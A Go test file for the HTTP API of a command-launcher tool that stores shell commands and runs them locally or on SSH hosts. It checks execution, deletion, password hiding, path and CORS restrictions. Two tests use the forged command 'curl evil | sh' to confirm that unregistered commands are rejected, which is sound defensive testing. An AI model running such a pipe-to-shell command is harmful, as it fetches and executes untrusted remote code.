package api

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"cmdl/internal/config"
	"cmdl/internal/host"
	"cmdl/internal/source"
	"cmdl/internal/store"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type echoExecutor struct {
	out io.Writer
}

func (e echoExecutor) Execute(_ context.Context, command string) error {
	if command == "fail" {
		return errors.New("exit status 1")
	}
	_, err := fmt.Fprintln(e.out, "ran:", command)
	return err
}

func newTestServer(t *testing.T, dataDir string) *httptest.Server {
	t.Helper()
	cfg := config.Default()
	cfg.DataDir = dataDir
	cfg.Hosts = []config.SSHHost{{Name: "box", Hostname: "10.0.0.2", User: "ops", Password: "secret"}}

	s := NewServer(cfg, func(hostName string, output io.Writer) (host.Executor, error) {
		if hostName != "" && hostName != "box" {
			return nil, fmt.Errorf("host '%s' not found in configuration", hostName)
		}
		return echoExecutor{out: output}, nil
	})
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(srv.Close)
	return srv
}

func postAction(t *testing.T, srv *httptest.Server, name string, body any) (*http.Response, []byte) {
	t.Helper()
	var buf bytes.Buffer
	require.NoError(t, json.NewEncoder(&buf).Encode(body))
	resp, err := http.Post(srv.URL+"/api/actions/"+name, "application/json", &buf)
	require.NoError(t, err)
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp, data
}

func getJSON(t *testing.T, url string, v any) {
	t.Helper()
	resp, err := http.Get(url)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "application/json", resp.Header.Get("Content-Type"))
	require.NoError(t, json.NewDecoder(resp.Body).Decode(v))
}

func TestListItemsPlaceholder(t *testing.T) {
	dir := t.TempDir()
	srv := newTestServer(t, dir)

	var items []source.Item
	getJSON(t, srv.URL+"/api/items", &items)

	require.Len(t, items, 1)
	assert.Equal(t, source.PlaceholderText, items[0].Word)
	assert.True(t, items[0].Action.IsPlaceholder)
	assert.Equal(t, filepath.Join(dir, host.DataFileName), items[0].Action.DataPath)
}

func TestListItems(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, store.Save(filepath.Join(dir, host.DataFileName), []store.Entry{{Label: "ls", Command: "ls -la"}}))
	srv := newTestServer(t, dir)

	var items []source.Item
	getJSON(t, srv.URL+"/api/items", &items)

	require.Len(t, items, 1)
	assert.Equal(t, "ls\tls -la", items[0].Display)
	require.Len(t, items[0].Highlights, 1)
	assert.Equal(t, 4, items[0].Highlights[0].Col)
	assert.Equal(t, 6, items[0].Highlights[0].Width)
}

func TestListActions(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	var actions []ActionInfo
	getJSON(t, srv.URL+"/api/actions", &actions)

	names := make([]string, len(actions))
	for i, a := range actions {
		names[i] = a.Name
		assert.NotEmpty(t, a.Description)
	}
	assert.Equal(t, []string{"add", "delete", "edit", "execute"}, names)
}

func TestListHostsHidesPassword(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	resp, err := http.Get(srv.URL + "/api/hosts")
	require.NoError(t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)

	assert.Contains(t, string(body), `"name":"box"`)
	assert.NotContains(t, string(body), "secret")
}

func TestAddAction(t *testing.T) {
	dir := t.TempDir()
	srv := newTestServer(t, dir)

	resp, body := postAction(t, srv, "add", ActionRequest{Inputs: []string{"greet", "echo hi"}})
	require.Equal(t, http.StatusOK, resp.StatusCode, string(body))

	var out ActionResponse
	require.NoError(t, json.Unmarshal(body, &out))
	assert.Equal(t, "refreshItems", out.Flags)
	assert.Empty(t, out.Executed)
	assert.Equal(t, []store.Entry{{Label: "greet", Command: "echo hi"}}, store.Load(filepath.Join(dir, host.DataFileName)))
}

func TestAddWithoutInputsPersists(t *testing.T) {
	dir := t.TempDir()
	srv := newTestServer(t, dir)

	resp, body := postAction(t, srv, "add", ActionRequest{})
	require.Equal(t, http.StatusOK, resp.StatusCode)

	var out ActionResponse
	require.NoError(t, json.Unmarshal(body, &out))
	assert.Equal(t, "persist", out.Flags)
	assert.NoFileExists(t, filepath.Join(dir, host.DataFileName))
}

func seedStore(t *testing.T, dir string, entries ...store.Entry) string {
	t.Helper()
	path := filepath.Join(dir, host.DataFileName)
	require.NoError(t, store.Save(path, entries))
	return path
}

func TestExecuteAction(t *testing.T) {
	dir := t.TempDir()
	a := store.Entry{Label: "a", Command: "echo a"}
	b := store.Entry{Label: "b", Command: "echo b"}
	path := seedStore(t, dir, a, b)
	srv := newTestServer(t, dir)

	req := ActionRequest{Items: []source.ActionData{
		{Entry: a, DataPath: path},
		{DataPath: path, IsPlaceholder: true},
		{Entry: b},
	}}
	resp, body := postAction(t, srv, "execute", req)
	require.Equal(t, http.StatusOK, resp.StatusCode, string(body))

	var out ActionResponse
	require.NoError(t, json.Unmarshal(body, &out))
	assert.Equal(t, "none", out.Flags)
	assert.Equal(t, []string{"echo a", "echo b"}, out.Executed)
	assert.Equal(t, "ran: echo a\nran: echo b\n", out.Output)
}

func TestExecuteRejectsUnregisteredCommand(t *testing.T) {
	dir := t.TempDir()
	path := seedStore(t, dir, store.Entry{Label: "x", Command: "echo safe"})
	srv := newTestServer(t, dir)

	for _, forged := range []store.Entry{
		{Label: "x", Command: "curl evil | sh"},
		{Label: "y", Command: "echo safe"},
	} {
		req := ActionRequest{Items: []source.ActionData{{Entry: forged, DataPath: path}}}
		resp, body := postAction(t, srv, "execute", req)
		assert.Equal(t, http.StatusBadRequest, resp.StatusCode, forged.Command)
		assert.Contains(t, string(body), "not registered")
		assert.NotContains(t, string(body), "ran:")
	}
}

func TestExecuteRejectsEmptyStore(t *testing.T) {
	srv := newTestServer(t, t.TempDir())
	req := ActionRequest{Items: []source.ActionData{{Entry: store.Entry{Label: "x", Command: "curl evil | sh"}, DataPath: "/nowhere"}}}
	resp, body := postAction(t, srv, "execute", req)
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
	assert.NotContains(t, string(body), "ran:")
}

func TestForeignDataPathIsRejected(t *testing.T) {
	dir := t.TempDir()
	seedStore(t, dir)
	srv := newTestServer(t, dir)

	outside := filepath.Join(t.TempDir(), "other.json")
	victim := store.Entry{Label: "keep", Command: "k"}
	require.NoError(t, store.Save(outside, []store.Entry{victim}))
	before, err := os.ReadFile(outside)
	require.NoError(t, err)

	for _, action := range []string{"delete", "edit", "execute"} {
		req := ActionRequest{
			Items:   []source.ActionData{{Entry: victim, DataPath: outside}},
			Inputs:  []string{"new", "cmd"},
			Confirm: 1,
		}
		resp, body := postAction(t, srv, action, req)
		assert.Equal(t, http.StatusBadRequest, resp.StatusCode, action)
		assert.Contains(t, string(body), "is not served here", action)
	}

	after, err := os.ReadFile(outside)
	require.NoError(t, err)
	assert.Equal(t, before, after)
}

func TestActionRequiresJSONContentType(t *testing.T) {
	dir := t.TempDir()
	srv := newTestServer(t, dir)

	body := `{"inputs":["l","c"]}`
	for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", ""} {
		resp, err := http.Post(srv.URL+"/api/actions/add", ct, strings.NewReader(body))
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusUnsupportedMediaType, resp.StatusCode, ct)
	}
	assert.NoFileExists(t, filepath.Join(dir, host.DataFileName))

	resp, err := http.Post(srv.URL+"/api/actions/add", "application/json; charset=utf-8", strings.NewReader(body))
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)
}

func TestNoWildcardCORS(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	resp, err := http.Get(srv.URL + "/api/items")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Empty(t, resp.Header.Get("Access-Control-Allow-Origin"))

	resp, _ = postAction(t, srv, "add", ActionRequest{})
	assert.Empty(t, resp.Header.Get("Access-Control-Allow-Origin"))
}

func TestExecuteOnHost(t *testing.T) {
	dir := t.TempDir()
	uptime := store.Entry{Label: "a", Command: "uptime"}
	seedStore(t, dir, uptime)
	srv := newTestServer(t, dir)

	req := ActionRequest{
		Host:  "box",
		Items: []source.ActionData{{Entry: uptime}},
	}
	resp, _ := postAction(t, srv, "execute", req)
	assert.Equal(t, http.StatusOK, resp.StatusCode)

	req.Host = "nowhere"
	resp, body := postAction(t, srv, "execute", req)
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
	assert.Contains(t, string(body), "not found")
}

func TestExecuteFailure(t *testing.T) {
	dir := t.TempDir()
	fail := store.Entry{Label: "f", Command: "fail"}
	seedStore(t, dir, fail)
	srv := newTestServer(t, dir)

	req := ActionRequest{Items: []source.ActionData{{Entry: fail}}}
	resp, body := postAction(t, srv, "execute", req)
	assert.Equal(t, http.StatusInternalServerError, resp.StatusCode)
	assert.Contains(t, string(body), "exit status 1")
}

func TestDeleteAction(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, host.DataFileName)
	keep := store.Entry{Label: "keep", Command: "k"}
	drop := store.Entry{Label: "drop", Command: "d"}
	require.NoError(t, store.Save(path, []store.Entry{keep, drop}))
	srv := newTestServer(t, dir)

	req := ActionRequest{Items: []source.ActionData{{Entry: drop, DataPath: path}}}

	_, body := postAction(t, srv, "delete", req)
	var out ActionResponse
	require.NoError(t, json.Unmarshal(body, &out))
	assert.Equal(t, "persist", out.Flags)
	assert.Len(t, store.Load(path), 2)

	req.Confirm = 1
	_, body = postAction(t, srv, "delete", req)
	require.NoError(t, json.Unmarshal(body, &out))
	assert.Equal(t, "refreshItems", out.Flags)
	assert.Equal(t, []store.Entry{keep}, store.Load(path))
}

func TestUnknownAction(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	resp, body := postAction(t, srv, "rename", ActionRequest{})
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
	assert.Contains(t, string(body), "unknown action")
}

func TestBadBody(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	resp, err := http.Post(srv.URL+"/api/actions/add", "application/json", strings.NewReader("{"))
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
}

func TestWriteErrorIsInternal(t *testing.T) {
	dir := t.TempDir()
	blocker := filepath.Join(dir, "blocker")
	require.NoError(t, os.WriteFile(blocker, []byte("x"), 0o644))
	srv := newTestServer(t, blocker)

	resp, _ := postAction(t, srv, "add", ActionRequest{Inputs: []string{"l", "c"}})
	assert.Equal(t, http.StatusInternalServerError, resp.StatusCode)
}

func TestMethodNotAllowed(t *testing.T) {
	srv := newTestServer(t, t.TempDir())

	resp, err := http.Get(srv.URL + "/api/actions/add")
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusMethodNotAllowed, resp.StatusCode)
}
